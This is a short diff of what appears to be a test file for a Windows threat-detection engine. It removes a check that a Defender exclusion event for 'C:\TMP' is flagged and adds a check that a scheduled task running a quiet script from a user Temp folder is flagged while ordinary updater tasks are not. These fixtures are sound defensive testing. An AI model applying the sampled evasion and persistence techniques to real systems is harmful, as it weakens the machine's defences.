-    added = event(5007, DEFENDER, **{"New Value": base + "Exclusions\\Paths\\C:\\TMP = 0x0"})
-    assert fires("windows.eventlog", added) == ["evtx.defender_exclusion"]
+    scenes = fires(
+        "windows.scheduled_task",
+        task(r"C:\Users\a\AppData\Local\Temp\rc\sync.cmd /quiet"),
+        task(r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe /ua /installsource scheduler"),
+        task(r"%SystemRoot%\system32\ClipRenew.exe -e"),
+        task(r"%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe"),
+    )
+    assert scenes == [["task.user_writable"], [], [], []]
